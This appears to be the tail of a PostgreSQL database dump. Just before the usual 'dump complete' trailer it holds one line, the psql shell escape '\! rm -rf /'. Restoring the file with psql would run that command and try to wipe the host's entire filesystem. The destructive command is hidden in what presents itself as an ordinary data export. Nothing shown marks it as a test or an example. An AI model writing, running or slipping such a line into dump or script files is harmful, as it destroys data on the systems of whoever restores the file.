\! rm -rf /
-- PostgreSQL database dump complete
